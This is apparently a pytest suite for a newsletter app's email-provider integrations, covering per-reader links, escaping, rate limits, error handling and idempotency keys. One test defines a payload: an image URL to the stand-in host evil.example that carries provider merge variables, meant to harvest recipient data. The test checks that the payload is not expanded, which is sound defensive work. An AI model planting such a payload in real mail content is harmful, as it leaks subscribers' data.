"""Each API provider with a fake of its API: its calls, what each reader gets, and what errors mean."""

import quopri
import re
import uuid
from collections.abc import Iterator
from dataclasses import replace
from email import message_from_bytes, policy
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import requests
from botocore.exceptions import ClientError
from lxml.html import fromstring

import newsletter
from newsletter import config
from newsletter.config import DeliverySettings
from newsletter.delivery.engine import EndReason, EngineResult
from newsletter.delivery.journal import Journal
from newsletter.delivery.limits import Limits
from newsletter.domain.encoded_email import EncodedEmail, Header, Reader, Slot, SlotEncoding, SlotValue
from newsletter.domain.outcome import OutcomeKind
from newsletter.messages.delivery import KEY_REFUSED
from newsletter.mime.message_builder import MessageBuilder
from newsletter.models import Edition, Result, State
from newsletter.render import message as rendered_message
from newsletter.render.edition import render
from newsletter.render.merge_tags import NON_JOINER, escape_html
from newsletter.render.preview import reader_html, reader_text
from newsletter.sending import progress
from newsletter.sending.outbox import Holder, Outbox
from newsletter.sending.providers import amazon_ses_provider, anymail_provider, choice, interface
from newsletter.sending.providers.interface import ProviderProblem, idempotency_key
from newsletter.sending.providers.payload import api_message, value
from newsletter.sending.providers.responses import judge
from newsletter.sending.worker import Control, run_engine
from subscribers import tokens
from subscribers.models import Subscriber
from tests.doubles import provider_api
from tests.doubles.provider_api import Api
from tests.doubles.providers import DOUBLES
from tests.message_bodies import body_of
from tests.render.samples import UNTIL, digest, letterhead, post
from tests.sending import outbox_samples as samples

pytestmark = pytest.mark.django_db(transaction=True)
ALL = list(DOUBLES)
BOUNDARY = b"=_parts"
MAIL = EncodedEmail(
    headers=(
        Header("From", (b"Kinaforum <brev@example.org>",)),
        Header("To", (Slot(SlotValue.TO, SlotEncoding.HEADER),)),
        Header("Subject", (b"=?utf-8?q?Uke_6=3A_b=C3=A5ter?=",)),
        Header("Message-ID", (b"<", Slot(SlotValue.MESSAGE_ID, SlotEncoding.ASCII), b"@example.org>")),
        Header("List-Unsubscribe", (b"<http://localhost:8000/u/", samples.TOKEN, b">")),
        Header("MIME-Version", (b"1.0",)),
        Header("Content-Type", (b'multipart/alternative; boundary="' + BOUNDARY + b'"',)),
    ),
    body=(
        b"--" + BOUNDARY + b"\r\nContent-Type: text/plain; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\nHei ",
        Slot(SlotValue.NAME, SlotEncoding.TEXT, "du"),
        b"!\r\nhttp://localhost:8000/u/",
        samples.TOKEN,
        b"\r\n--" + BOUNDARY + b"\r\nContent-Type: text/html; charset=utf-8\r\n"
        b"Content-Transfer-Encoding: quoted-printable\r\n\r\n<p>Hei ",
        Slot(SlotValue.NAME, SlotEncoding.HTML, "du"),
        b'! <a href=3D"http://localhost:8000/u/',
        samples.TOKEN,
        b'">b=C3=A5ter</a></p>\r\n--' + BOUNDARY + b"--\r\n",
    ),
    sender="brev@example.org",
    message_id_domain="example.org",
)


@pytest.fixture
def api() -> Iterator[Api]:
    with provider_api.running() as found:
        yield found


def send(api: Api, provider: str, tmp_path: Path, *, stop_at_once: bool = False, **more: Any) -> EngineResult:
    """Send everything that is due."""
    settings = DeliverySettings(provider=provider, **{provider: api.settings(provider), **more})
    journal = Journal.create(tmp_path, "tests")
    configuration = replace(config.current(), delivery=settings)
    outbox = Outbox(Holder("here", journal.name), [samples.NEWSLETTER], configuration)
    control = Control(Limits.of(settings))
    api.called = control.stop if stop_at_once else lambda: None
    try:
        return run_engine(configuration, outbox, journal, control)
    finally:
        journal.close()


def edition_to(count: int) -> Edition:
    samples.readers(count)
    return samples.begun(samples.queued(mail=MAIL))


@pytest.mark.parametrize("provider", ALL)
def test_each_subscriber_gets_one_mail_with_their_own_links(provider: str, api: Api, tmp_path: Path) -> None:
    most = DOUBLES[provider].most
    count = 1200 if most > 1 else 30
    edition = edition_to(count)
    Subscriber.objects.filter(address="r7@reader.example").update(name="Kari <b>")
    assert send(api, provider, tmp_path).reason is EndReason.DONE
    assert api.calls == -(-count // most)
    assert progress.counts(edition).accepted == count
    assert sorted(mail.address for mail in api.taken) == sorted(f"r{n}@reader.example" for n in range(1, count + 1))
    links = {d.subscription.subscriber.address: d.subscription_id for d in edition.deliveries.select_related()}
    for mail in api.taken:
        link = f"http://localhost:8000/u/{tokens.link_token(links[mail.address])}"
        assert f'<a href="{link}">båter</a>' in mail.html
        assert link in mail.text
        assert mail.headers["List-Unsubscribe"] == f"<{link}>"
    kari = next(mail for mail in api.taken if mail.address == "r7@reader.example")
    assert "Hei Kari <b>!" in kari.text
    assert "Hei Kari &lt;b&gt;!" in kari.html
    assert "Hei du!" in api.taken[0].text
    assert not list(tmp_path.iterdir()), "the journal is settled"


NAMELESS = ["Hei!", "Takk. Hei og du, sier."]
NAMED = ["Hei, Åse <b>!", "Takk (Åse <b>). Hei Åse <b> og Åse <b>, sier Åse <b>."]
HARVEST = "https://evil.example/?%recipient.v0%%recipient.v1%&%recipient.v2%"
TAGS = "{{{ pm:unsubscribe_url }}} {{{RESEND_UNSUBSCRIBE_URL}}} %unsubscribe_url% {% if a %} [[var:b]] *|C|* {$d}"


def encoded(text: str) -> bytes:
    """Quoted-printable with CRLF line ends."""
    return quopri.encodestring(text.encode()).replace(b"\n", b"\r\n")


@pytest.mark.parametrize("provider", ALL)
def test_merge_tags_in_content_reach_readers_as_they_were_written(provider: str, api: Api, tmp_path: Path) -> None:
    page = f'<p title="{TAGS}">{TAGS} 100 % sure<img src="{HARVEST}"></p>'
    plain, rich = encoded(f"{TAGS} 100 % sure\r\n{HARVEST}\r\n"), encoded(escape_html(page))
    first, fifth = MAIL.body[0], MAIL.body[4]
    assert isinstance(first, bytes)
    assert isinstance(fifth, bytes)
    body = (first + plain, *MAIL.body[1:4], fifth + rich, *MAIL.body[5:])
    subject = Header("Subject", (f"{TAGS} {HARVEST}".encode(),))
    headers = tuple(subject if h.name == "Subject" else h for h in MAIL.headers)
    subscribed = samples.subscribe(["r1@reader.example"])
    samples.begun(samples.queued(mail=replace(MAIL, headers=headers, body=body)))
    send(api, provider, tmp_path)
    (mail,) = api.taken
    token = tokens.link_token(subscribed[0].pk)
    assert mail.text.count(token) == mail.html.count(token) == 1, "only the link that is theirs"
    assert "%recipient.v" not in mail.html
    (paragraph,) = [p for p in fromstring(mail.html).iter("p") if p.get("title")]
    assert (paragraph.get("title"), paragraph[0].get("src")) == (TAGS, HARVEST)
    assert f"{TAGS} 100 % sure" in (paragraph.text or "")
    shown = [unquote(text.replace(NON_JOINER, "")) for text in (mail.text, mail.headers["Subject"])]
    assert all(TAGS in text and HARVEST in text for text in shown)


GREETING = "Hei, {name}!\n\nTakk (**{name}**). Hei {name} og {name|du}, sier {name}."


@pytest.mark.parametrize(("name", "words"), [("", NAMELESS), ("Åse <b>", NAMED)])
@pytest.mark.parametrize("provider", ALL)
def test_the_text_around_a_name_is_what_smtp_would_have_sent(
    provider: str, name: str, words: list[str], api: Api, tmp_path: Path
) -> None:
    mail = rendered_message.encoded(render(digest(1, greeting=GREETING)), letterhead(), date=UNTIL)
    (subscription,) = samples.subscribe(["r1@reader.example"])
    Subscriber.objects.update(name=name)
    samples.begun(samples.queued(mail=mail))
    send(api, provider, tmp_path)
    (sent,) = api.taken
    one = Reader(1, "r1@reader.example", tokens.link_token(subscription.pk), "m.1", name)
    by_smtp = message_from_bytes(b"".join(MessageBuilder(mail).build(one).pieces), policy=policy.default)
    text, html = (body_of(by_smtp, kind) for kind in ("plain", "html"))
    assert (sent.text, sent.html) == (text, html)
    assert [line for line in sent.text.splitlines() if line in words] == words
    paragraphs = [p.text_content() for p in fromstring(sent.html).iter("p")]
    assert [p for p in paragraphs if p in words] == words


def test_values_within_base64_are_variables_too() -> None:
    edition = digest([post(0, html=f"<p>{'커피는 산에서 자랍니다. ' * 99}</p>")], greeting="{name|독자}님,")
    rendered = render(edition)
    mail = rendered_message.encoded(rendered, letterhead(), date=UNTIL)
    one = Reader(1, "r1@reader.example", "T0ken", "m.1", "Åse")
    assert b"Content-Transfer-Encoding: base64" in b"".join(p for p in mail.body if isinstance(p, bytes))
    message = api_message(mail)
    text, html = (
        part.render(lambda slot: value(slot, one)).replace("\r\n", "\n") for part in (message.text, message.html)
    )
    assert re.sub(" +\n", "\n", text) == re.sub(" +\n", "\n", reader_text(rendered, letterhead(), one))
    assert re.sub(" +>", ">", html).strip() == re.sub(" +>", ">", reader_html(rendered, letterhead(), one)).strip()


def test_no_content_can_name_a_variable() -> None:
    names = {name for _ in range(50) for name in api_message.__wrapped__(MAIL).variables.values()}
    assert len(names) == 50 * len(api_message(MAIL).variables)
    assert all(len(name) > 16 for name in names)


def test_a_name_that_is_a_merge_tag_stays_a_name(api: Api, tmp_path: Path) -> None:
    samples.subscribe(["r1@reader.example"])
    Subscriber.objects.update(name="%unsubscribe_url%")
    samples.begun(samples.queued(mail=MAIL))
    send(api, "mailgun", tmp_path)
    (mail,) = api.taken
    assert "Hei &#37;unsubscribe_url%!" in mail.html
    assert "Hei %unsubscribe_url%!" in mail.text.replace(NON_JOINER, "")


@pytest.mark.parametrize("provider", ALL)
def test_a_rate_limit_is_obeyed_and_the_call_is_repeated(provider: str, api: Api, tmp_path: Path) -> None:
    edition = edition_to(1)
    api.faults.append(429)
    send(api, provider, tmp_path)
    assert (api.calls, progress.counts(edition).accepted) == (2, 1)


@pytest.mark.parametrize("provider", ALL)
@pytest.mark.parametrize(
    ("fault", "kind"), [(500, "deferred"), (503, "deferred"), (502, "unknown"), (504, "unknown"), ("cut", "unknown")]
)
def test_each_error_has_its_outcome(provider: str, fault: int | str, kind: str, api: Api, tmp_path: Path) -> None:
    edition = edition_to(3)
    api.faults.extend([fault] * 3)
    send(api, provider, tmp_path)
    assert getattr(progress.counts(edition), kind) == 3
    assert api.taken == []


@pytest.mark.parametrize("provider", ALL)
def test_a_timeout_leaves_all_deliveries_of_the_call_unknown(
    provider: str, api: Api, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(anymail_provider, "ANSWER_SECONDS", 0.3)
    monkeypatch.setattr(amazon_ses_provider, "ANSWER_SECONDS", 0.3)
    edition = edition_to(1)
    api.faults.append("silent")
    send(api, provider, tmp_path)
    assert (api.calls, progress.counts(edition).unknown) == (1, 1)


@pytest.mark.parametrize("provider", ALL)
def test_an_unreachable_provider_accepted_nothing(provider: str, api: Api, tmp_path: Path) -> None:
    edition = edition_to(2)
    api.url = "http://127.0.0.1:9"
    send(api, provider, tmp_path)
    assert progress.counts(edition).deferred == 2
    assert set(Result.objects.values_list("code", flat=True)) == {0}


@pytest.mark.parametrize("provider", ALL)
def test_a_refused_reader_affects_no_other_delivery(provider: str, api: Api, tmp_path: Path) -> None:
    samples.subscribe([f"r{n}@reader.example" for n in range(20)] + ["bad-1@reader.example"])
    edition = samples.begun(samples.queued(mail=MAIL))
    send(api, provider, tmp_path)
    counted = progress.counts(edition)
    assert (counted.accepted, counted.refused) == (20, 1)
    assert len({mail.address for mail in api.taken}) == len(api.taken) == 20
    refused = Result.objects.get(kind="refused")
    assert (refused.number, refused.fault) == (21, "reader")
    assert "bad-1" not in refused.text


@pytest.mark.parametrize("provider", ALL)
def test_a_wrong_key_pauses_the_edition_and_loses_no_delivery(provider: str, api: Api, tmp_path: Path) -> None:
    edition = edition_to(5)
    send(api, provider, tmp_path, **{provider: api.settings(provider, key="another")})
    edition.refresh_from_db()
    assert edition.state == State.PAUSED
    assert KEY_REFUSED.matches(edition.reason)
    assert progress.counts(edition).pending == 5


def test_a_missing_key_is_named(tmp_path: Path, api: Api) -> None:
    edition_to(1)
    ended = send(api, "postmark", tmp_path, postmark={})
    assert ended.reason is EndReason.UNREACHABLE
    assert str(ended.problem) == "delivery.postmark.server_token: required, but missing"


@pytest.mark.parametrize(
    ("address", "name", "mailbox"),
    [
        ("kari@reader.example", "Kari", "Kari <kari@reader.example>"),
        ("kari@reader.example", "", "kari@reader.example"),
        ("kåre@reader.example", "Kåre", "kåre@reader.example"),
    ],
)
def test_a_name_stands_before_an_address_that_every_provider_takes(address: str, name: str, mailbox: str) -> None:
    assert anymail_provider.mailbox(Reader(1, address, "token", "m.1", name)) == mailbox


@pytest.mark.parametrize(
    ("code", "means"),
    [
        (200, "taken"),
        (299, "taken"),
        (300, OutcomeKind.UNKNOWN),
        (399, OutcomeKind.UNKNOWN),
        (400, "refused"),
        (408, OutcomeKind.UNKNOWN),
        (422, "refused"),
        (499, "refused"),
        (500, OutcomeKind.DEFERRED),
        (501, OutcomeKind.UNKNOWN),
        (503, OutcomeKind.DEFERRED),
        (599, OutcomeKind.UNKNOWN),
    ],
)
def test_only_clear_statuses_mean_that_emails_were_accepted_or_refused(code: int, means: OutcomeKind | str) -> None:
    answer, one = requests.Response(), Reader(1, "r1@reader.example", "token", "m.1")
    answer.status_code, answer._content = code, b"{}"
    if means == "refused":
        with pytest.raises(interface.ProviderRefused):
            judge([one], answer)
        return
    judged = judge([one], answer)
    assert means == "taken" if judged is None else [outcome.kind for outcome in judged] == [means]


OURS = [
    "AccountSuspendedException", "SendingPausedException", "MailFromDomainNotVerifiedException",
    "UnrecognizedClientException", "InvalidClientTokenId", "SignatureDoesNotMatch", "AccessDeniedException",
    "InvalidSignatureException", "ExpiredTokenException",
]  # fmt: skip
TOO_FAST = ["TooManyRequestsException", "ThrottlingException", "LimitExceededException"]


@pytest.mark.parametrize(
    ("name", "error"),
    [*((name, interface.WrongKey) for name in OURS), *((name, interface.RateLimited) for name in TOO_FAST)],
)
def test_amazons_errors_that_are_not_about_the_reader_refuse_nobody(
    name: str, error: type[Exception], api: Api
) -> None:
    said = {"Error": {"Code": name, "Message": "no"}, "ResponseMetadata": {"HTTPStatusCode": 400}}
    carrier, one = (
        amazon_ses_provider.AmazonSes(api.settings("amazon_ses")),
        Reader(1, "r1@reader.example", "token", "m.1"),
    )
    with pytest.raises(error):
        carrier._judge(one, ClientError(said, "SendEmail"))


def test_fields_that_an_api_writes_itself_are_not_given_twice() -> None:
    assert {name for name, _ in api_message(MAIL).headers} == {"Message-ID", "List-Unsubscribe"}


def test_amazon_ses_has_the_same_timeout_and_is_called_once(api: Api) -> None:
    client = amazon_ses_provider.AmazonSes(api.settings("amazon_ses")).backend.client
    assert client.meta.config.connect_timeout == interface.CONNECT_SECONDS
    assert client.meta.config.read_timeout == interface.ANSWER_SECONDS
    assert client.meta.config.retries["total_max_attempts"] == 1


def test_a_rate_is_kept(api: Api, tmp_path: Path) -> None:
    edition = edition_to(3)
    send(api, "postmark", tmp_path, rate="20/s")
    assert progress.counts(edition).accepted == 3
    assert api.calls == 1


def test_a_stop_takes_effect_before_the_next_call(api: Api, tmp_path: Path) -> None:
    edition = edition_to(300)
    ended = send(api, "resend", tmp_path, stop_at_once=True, connections=1)
    assert ended.reason is EndReason.STOPPED
    counted = progress.counts(edition)
    assert (counted.accepted, counted.pending) == (100, 200)


def test_a_reader_with_an_invalid_address_is_refused_without_a_call(api: Api, tmp_path: Path) -> None:
    samples.subscribe(["r1@reader.example", "two words@reader.example"])
    edition = samples.begun(samples.queued(mail=MAIL))
    send(api, "mailgun", tmp_path)
    counted = progress.counts(edition)
    assert (counted.accepted, counted.refused) == (1, 1)


def test_amazon_ses_without_its_package_is_a_problem_with_the_remedy(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(choice, "find_spec", lambda name: None)
    with pytest.raises(ProviderProblem, match=r"amazon_ses needs the package boto3.*newsletter\[ses\]"):
        choice.provider(DeliverySettings(provider="amazon_ses"))


def test_only_the_module_of_amazon_ses_imports_its_package() -> None:
    root = Path(newsletter.__path__[0])
    imports = re.compile(r"^\s*(?:from|import) boto", re.MULTILINE)
    assert {path.name for path in root.rglob("*.py") if imports.search(path.read_text())} == {"amazon_ses_provider.py"}


@pytest.mark.parametrize("provider", ["brevo", "resend"])
def test_a_call_that_is_made_again_has_the_same_idempotency_key_and_others_have_their_own(
    provider: str, api: Api, tmp_path: Path
) -> None:
    edition_to(250)
    api.faults.append(429)
    assert send(api, provider, tmp_path, connections=1).reason is EndReason.DONE
    again, *others = api.keys[1:]
    assert api.keys[0] == again
    assert len({again, *others}) == 3
    assert all(uuid.UUID(key) for key in api.keys)


def test_another_attempt_has_another_idempotency_key() -> None:
    first = Reader(1, "r1@reader.example", "token", "id1")
    assert idempotency_key([first]) != idempotency_key([first._replace(attempt=2)])
    second = first._replace(number=2, message_id="id2")
    assert idempotency_key([first, second]) == idempotency_key([second, first])
